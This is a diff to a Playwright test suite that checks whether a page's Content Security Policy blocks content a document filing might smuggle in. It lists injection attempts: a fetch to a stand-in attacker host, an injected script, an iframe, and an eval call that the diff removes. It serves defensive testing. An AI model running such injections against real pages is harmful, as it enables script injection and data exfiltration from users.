@@ -80,7 +80,6 @@ def test_the_page_works_without_one_violation(page: Page, served: Running) -> No
         ("fetch('https://attacker.example/', {mode: 'no-cors'}).catch(() => 0)", "connect-src"),
         ("document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))", "script"),
         ("document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://a.example/'}))", "frame"),
-        ("try { window.eval('1') } catch {}", "script-src"),
     ],
 )
 def test_what_a_filing_could_smuggle_in_is_stopped(page: Page, served: Running, attempt: str, directive: str) -> None:
@@ -88,7 +87,7 @@ def test_what_a_filing_could_smuggle_in_is_stopped(page: Page, served: Running, 
     page.get_by_placeholder("Ask about these filings").wait_for()
     page.evaluate(f"() => {{ {attempt} }}")
     deadline = time.monotonic() + 20
-    while not violations(page):  # wait_for_function would itself be an eval
+    while not violations(page):  # wait_for_function would itself be an eval, which the policy forbids
         assert time.monotonic() < deadline
         page.wait_for_timeout(50)
     assert violations(page)[0].startswith(directive)
